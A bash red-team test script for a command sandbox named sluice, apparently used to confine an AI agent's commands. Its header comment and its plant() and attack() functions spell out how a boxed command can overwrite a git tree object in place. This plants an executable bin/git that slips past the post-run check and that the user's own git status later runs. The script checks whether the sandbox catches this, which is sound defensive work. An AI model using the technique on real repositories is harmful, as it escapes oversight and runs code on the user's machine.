#!/usr/bin/env bash
# red team 48: an object of HEAD's, rewritten in place. git names an object
# by its content's hash but reads a subtree (as git reset --hard, checkout
# and diff-index walk one) without checking it; the run may write .git/
# objects. The user's repository has a bin/ (on their PATH through direnv's
# PATH_add bin) with a helper. The command writes a tree of bin/ holding
# the helper and an executable git, copies its loose object file over the
# one of HEAD:bin (same name, the command's content), and runs `git
# read-tree HEAD`. HEAD, the branch and every ref are as they were; the
# index now holds bin/git, and so does "HEAD" as any git reads it, so the
# check after the run (git diff-index --cached HEAD) sees no difference.
# `git status` shows " D bin/git", as if the agent had deleted a tracked
# file; the user's `git reset --hard` writes it back, executable, and the
# next `git status` runs it. (A packed repository: the command unpacks the
# pack first. The root tree rewritten instead: the check fails with "hash
# mismatch", said, while the staged bin/git stays for git checkout .)
# usage: 48-object-rewritten.sh /path/to/sluice   (as root or a user)
NAME=object-rewritten
HOLE="the user's git reset --hard wrote the command's bin/git from a rewritten tree object; the next git status ran it"
set -u
S=${1:?path to sluice}
base=$(mktemp -d "/var/tmp/rt48-$NAME.XXXXXX") || exit 1
trap 'rm -rf "$base"' EXIT
export HOME=$base/home
mkdir -p "$HOME"
git config --global user.name t; git config --global user.email t@example.invalid
git config --global init.defaultBranch main; git config --global advice.detachedHead false
printf '[sandbox]\ngit_sweep = no\n' >"$base/sweep-off.ini"
# plant MARK [PARENT]: shell text, run in the box, that writes git objects only
# (the work tree's bin/ is not touched): $b an executable bin/git touching
# MARK then running git, $bt a bin/ tree holding it, $C a commit of
# PARENT's tree (HEAD's) plus bin/git, child of PARENT
plant() {
  cat <<EOF
G='env PATH=/usr/bin:/bin git'
b=\$(printf '#!/bin/sh\\ntouch $1\\nexec /usr/bin/git "\$@"\\n' | \$G hash-object -w --stdin) &&
bt=\$(printf '100755 blob %s\\tgit\\n' \$b | \$G mktree) &&
t=\$( (\$G ls-tree ${2:-HEAD}; printf '040000 tree %s\\tbin\\n' \$bt) | \$G mktree) &&
C=\$(\$G commit-tree -p ${2:-HEAD} -m 'format helper' \$t)
EOF
}
new_repo() { mkdir -p "$1" && git -C "$1" init -q && echo a >"$1/a" && git -C "$1" add a && git -C "$1" commit -qm a; }
# what the sweep said, from the run's JSON result
said() {
  python3 -c 'import json,sys
d=json.load(open(sys.argv[1])); g=d.get("gitSweep") or {}
e=d.get("error") or {}
print("exit %s%s; git sweep: %s" % (d.get("exitCode"), " (" + str(e.get("message")) + ")" if e else "", "; ".join([i["what"] for i in g.get("items") or []] + ["(error) " + str(g.get("error"))] * bool(g.get("error"))) or "nothing found"))' "$1" 2>/dev/null || head -c 300 "$1"
}
# one LABEL [CONFIG]: setup, the command in the box, the user's trigger;
# true when the mark appeared (the user's git ran the command's bin/git)
one() {
  local d=$base/$1 mark=$HOME/pwned-$1
  setup "$d" || { echo "setup failed"; exit 3; }
  PATH=$d/bin:$PATH "$S" run -C "$d" ${2:+--config "$2"} --format json -- "$(attack "$mark" | tr '\n' ' ')" \
    >"$base/$1.json" 2>"$base/$1.err"
  echo "== $1: the run: $(said "$base/$1.json")"
  trigger "$d"
  [ -e "$mark" ]
}
finish() {
  if one control "$base/sweep-off.ini"; then
    echo "== positive control (git_sweep = no): the user's git ran the command's bin/git"
  else
    echo "== positive control failed: the attack does not work here"; exit 2
  fi
  if one boxed; then echo "HOLE: $HOLE"; exit 1; fi
  echo "stopped: the default sandbox undid it"; exit 0
}
# the user's git status with direnv's PATH_add bin (the workspace's bin/ first)
user_status() { (cd "$1" && PATH=$1/bin:$PATH git status) >/dev/null 2>&1; }
setup() {
  new_repo "$1" && mkdir "$1/bin" && printf '#!/bin/sh\necho formatted\n' >"$1/bin/fmt" &&
    chmod +x "$1/bin/fmt" && git -C "$1" add bin && git -C "$1" commit -qm 'bin/fmt'
}
attack() {
  plant "$1"
  echo '&& e=$( ($G ls-tree HEAD:bin; printf "100755 blob %s\tgit\n" $b) | $G mktree) && o=$($G rev-parse HEAD:bin)'
  echo '&& f=.git/objects/$(echo $o | cut -c1-2)/$(echo $o | cut -c3-) && rm -f $f'
  echo '&& cp .git/objects/$(echo $e | cut -c1-2)/$(echo $e | cut -c3-) $f && $G read-tree HEAD'
}
trigger() {
  echo "   git status --short: $(git -C "$1" status --short 2>&1 | tr '\n' ' ')"
  git -C "$1" reset -q --hard >/dev/null 2>&1; user_status "$1"
}
finish
